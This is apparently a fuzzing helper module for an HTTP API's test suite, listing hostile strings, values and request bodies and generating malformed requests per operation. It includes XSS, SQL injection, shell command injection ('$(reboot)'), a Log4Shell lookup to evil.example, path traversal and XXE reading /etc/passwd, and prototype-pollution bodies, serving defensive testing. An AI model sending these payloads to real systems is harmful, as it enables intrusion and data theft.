import { z } from "zod";
import { isMediaType, type Operation } from "../../../src/http/operations/operation.js";

/** What attackers write where a text is asked for. */
export const TEXTS: readonly string[] = [
  "",
  " ",
  "<script>alert(1)</script>",
  "'; DROP TABLE bans; --",
  '" OR 1=1 --',
  "%' OR '%",
  "line\r\nSet-Cookie: rf=1\r\n\r\nsecond",
  "nul\u0000nul",
  "\u001b[2J\u202Egnp.exe",
  "\uD800",
  "../../../../etc/passwd",
  "=cmd|' /C calc'!A0",
  "$(reboot)`reboot`;reboot|reboot",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "-1",
  "0",
  "1e999",
  "NaN",
  "9".repeat(400),
  "203.0.113.9/0",
  "::ffff:127.0.0.1",
  "%s%s%n",
  "A".repeat(20_000),
];

/** What attackers write where a text, a number or a list is asked for. */
export const VALUES: readonly unknown[] = [
  null,
  true,
  -1,
  0.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 1,
  [],
  {},
  [[[[]]]],
  [null],
  ["<script>", 1, {}],
  { $gt: "" },
  JSON.parse('{"__proto__":{"admin":true}}'),
  Array.from({ length: 5_000 }, () => "x"),
  { toString: "x", valueOf: 1, length: -1 },
];

/** Whole bodies, as they go over the wire. */
export const BODIES: readonly string[] = [
  "null",
  "[]",
  "42",
  '"text"',
  "true",
  "{",
  '{"a":',
  '{"__proto__":{"isAdmin":true,"role":"admin"}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  "\u0000",
  "[".repeat(50_000),
  `${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}`,
  `{"${"k".repeat(100_000)}":1}`,
  "a=1&b=2",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
];

/** A path with each of its names replaced. */
export function pathOf({ path }: Operation, name: string): string {
  return path.replaceAll(/:\w+/g, name);
}

/** Bodies for an operation that takes JSON: each field in turn with each hostile value, the others as they ought to be. */
export function bodiesFor({ body }: Operation): readonly Record<string, unknown>[] {
  if (body === undefined || isMediaType(body)) return [];
  const { properties = {} } = z.toJSONSchema(body, { io: "input", unrepresentable: "any" });
  const fitting = Object.fromEntries(
    Object.entries(properties).flatMap(([name, schema]) => {
      const value = EXAMPLES[name] ?? exampleOf(schema);
      return value === undefined ? [] : [[name, value]];
    }),
  );
  return Object.keys(properties).flatMap((name) =>
    [...TEXTS, ...VALUES].map((value) => ({ ...fitting, [name]: value })),
  );
}

/** Query strings for an operation: each parameter in turn with each hostile text, twice, and as if it were an object. */
export function queriesFor({ query }: Operation): readonly string[] {
  const names = Object.keys(query?.shape ?? {});
  const encoded = TEXTS.filter((text) => text.length < 1_000 && text !== "\uD800").map(encodeURIComponent);
  return [
    ...names.flatMap((name) => [
      ...encoded.map((text) => `${name}=${text}`),
      ...[`${name}=1&${name}=2`, `${name}[]=1`, `${name}[a]=1`, `${name}=%ZZ`, `${name}=%FF`, `${name}=%00`],
    ]),
    ...["__proto__=1", "__proto__[x]=1", "constructor[prototype][x]=1", "nothing=1"],
  ];
}

/** Whether `body` is one that the operation takes. */
export function fits({ body }: Operation, given: unknown): boolean {
  return body !== undefined && !isMediaType(body) && body.safeParse(given).success;
}

export function understands({ query }: Operation, text: string): boolean {
  return query?.safeParse(Object.fromEntries(new URLSearchParams(text))).success === true;
}

const EXAMPLES: Readonly<Record<string, unknown>> = {
  ...{ target: "203.0.113.9", source: "203.0.113.9", account: "104", extension: "104", from: "104" },
  ...{ duration: "1h", entry: "203.0.113.0/24", number: "0018765550123", digits: "0018765550123" },
  ...{ user: "nobody", name: "nobody", password: "correct horse battery", role: "viewer", scope: "read" },
};

function exampleOf(schema: unknown): unknown {
  const { type, enum: choices } = (typeof schema === "object" ? schema : {}) as {
    readonly type?: string;
    readonly enum?: readonly unknown[];
  };
  if (choices !== undefined) return choices[0];
  return type === "string" ? "x" : type === "boolean" ? false : type === "array" ? [] : undefined;
}
